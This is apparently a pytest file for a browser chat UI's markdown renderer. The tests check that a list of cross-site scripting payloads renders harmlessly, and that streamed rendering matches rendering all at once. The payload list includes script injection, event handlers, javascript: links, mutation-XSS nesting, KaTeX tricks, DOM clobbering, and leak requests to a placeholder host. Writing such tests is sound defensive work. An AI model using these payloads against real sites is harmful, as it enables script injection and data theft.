"""A model's markdown in a browser: nothing hostile comes through, and in pieces it looks as it does at once."""

import random

import pytest

from system.webui.conftest import Open, Serve
from system.webui.pretend_chat import MARKDOWN
from system.webui.test_web_chat import until

HOSTILE = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<IMG SRC=x ONERROR=hit()//",
    '<svg><script xlink:href="data:,hit()"/></svg>',
    "<svg/onload=hit()>",
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    "<b onclick=hit()>b</b>",
    "<details open ontoggle=hit()><summary>x</summary></details>",
    '<a href="javascript:hit()">a</a>',
    "[a](javascript:hit())",
    "[a](JaVaScRiPt&colon;hit())",
    "[a](&#106;avascript:hit())",
    "[a](data:text/html,<script>hit()</script>)",
    "[a](vbscript:hit())",
    '[a](https://x.invalid "onmouseover=hit()")',
    '[a]: https://x.invalid "\\" onmouseover=\\"hit()"\n[a]',
    "![a](x onerror=hit())",
    "![a](javascript:hit())",
    "![](https://x.invalid/leak?q=secret)",
    "<style>@import url(https://x.invalid/leak)</style>",
    "<link rel=stylesheet href=https://x.invalid/leak>",
    "<meta http-equiv=refresh content='0;url=https://x.invalid'>",
    "<form action=https://x.invalid><input name=q><button>go</button></form>",
    "<base href=https://x.invalid>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    '```"><img/src=x/onerror=hit()>\nx\n```',
    "```html\n<script>hit()</script>\n```",
    '`<img src=x onerror=hit()>` and "<b>"',
    r"$\href{javascript:hit()}{x}$",
    r"$\htmlStyle{background:url(https://x.invalid)}{x}$",
    r"$\includegraphics{https://x.invalid/leak.png}$",
    r"$\url{javascript:hit()}$",
    "$<img src=x onerror=hit()>$",
    r"$\def\a{\a\a}\a$",
    "$" + r"\frac{" * 200 + "x" + "}" * 200 + "$",
    r"$\text{<script>hit()</script>}\pmb{x}\fcolorbox{red}{blue}{x}$",
    "<div id=composer-text></div><a id=settings name=main>x</a>",
    "> " * 300 + "deep",
    "*" * 2000 + "a" + "_" * 2000,
    "[" * 3000,
    "| a |\n|---|\n| <img src=x onerror=hit()> |",
]

FOUND = """(node) => ({
    tags: [...new Set([...node.querySelectorAll('*')].map(part => part.localName))].filter(tag =>
        ['script', 'img', 'iframe', 'style', 'link', 'meta', 'form', 'input', 'base', 'object', 'embed'].includes(tag)),
    acts: [...node.querySelectorAll('*')].flatMap(part => part.getAttributeNames())
        .filter(name => /^on|^srcdoc$/.test(name)),
    links: [...node.querySelectorAll('[href], [src]')]
        .map(part => part.getAttribute('href') ?? part.getAttribute('src'))
        .filter(link => !/^(https?|mailto):/i.test(link)),
    ids: [...node.querySelectorAll('[id], [name]')].length,
})"""

DRAW = """async ([text, cuts]) => {
    const { MarkdownView } = await import(new URL('webui/js/markdown.js', document.baseURI));
    const node = document.createElement('div');
    document.body.append(node);
    const view = new MarkdownView(node);
    for (const cut of cuts) view.update(text.slice(0, cut));
    view.update(text, true);
    window.drawnNode = node;
}"""


@pytest.mark.all
def test_nothing_hostile_comes_through(serve: Serve, open_page: Open) -> None:
    page = open_page(serve().url)
    page.evaluate("void (window.hit = () => { window.wasHit = true; })")
    page.evaluate(DRAW, ["$x$ loads what draws formulas", []])
    until(page, "Boolean(window.katex)")
    for text in HOSTILE:
        for cuts in ([], list(range(0, min(len(text), 200), 3))):
            page.evaluate(DRAW, [text, cuts])
            found = page.evaluate(f"({FOUND})(window.drawnNode)")
            assert found == {"tags": [], "acts": [], "links": [], "ids": 0}, text
            page.evaluate("window.drawnNode.remove()")
    page.wait_for_timeout(100)
    assert page.evaluate("window.wasHit") is None


@pytest.mark.all
def test_in_pieces_it_looks_as_at_once(serve: Serve, open_page: Open) -> None:
    page = open_page(serve().url)
    page.evaluate(DRAW, ["$x$\n\n```python\nx\n```", []])
    until(page, "Boolean(window.katex && document.querySelector('.hljs-keyword, code.coloured'))")
    tricky = "Title\n---\n\n1. one\n\n   more\n\n2. two\n\ntext\n***\n[late][1]\n\n    code\n\nmore\n\n[1]: https://x.invalid\n"
    chance = random.Random(7)
    for text in (MARKDOWN, MARKDOWN.replace("\n", "\r\n"), tricky, MARKDOWN + tricky + MARKDOWN):
        page.evaluate(DRAW, [text, []])
        whole = page.evaluate("window.drawnNode.innerHTML")
        for _ in range(4):
            cuts = sorted(chance.sample(range(len(text)), 40))
            page.evaluate(DRAW, [text, cuts])
            assert page.evaluate("window.drawnNode.innerHTML") == whole
            page.evaluate("window.drawnNode.remove()")
